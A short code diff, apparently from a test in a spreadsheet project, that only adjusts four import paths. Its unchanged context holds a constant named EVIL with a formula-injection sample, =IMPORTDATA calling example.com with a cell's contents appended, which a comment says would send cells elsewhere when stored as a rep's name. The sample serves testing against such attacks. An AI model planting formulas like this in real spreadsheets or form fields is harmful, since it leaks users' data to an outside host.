@@ -1,7 +1,7 @@
-import { total } from '../../local/host/counts';
-import { type Host, type HostTab, openHost } from '../../local/host/host';
-import { isFormula } from '../../local/workbook/cell';
-import type { Envelope } from '../../src/sheet/envelope';
+import { total } from '../../../local/host/counts';
+import { type Host, type HostTab, openHost } from '../../../local/host/host';
+import { isFormula } from '../../../local/workbook/cell';
+import type { Envelope } from '../../../src/sheet/envelope';
 
 /** A formula that would send cells elsewhere, as the name of a rep. */
 const EVIL = '=IMPORTDATA("https://example.com/"&B2)';
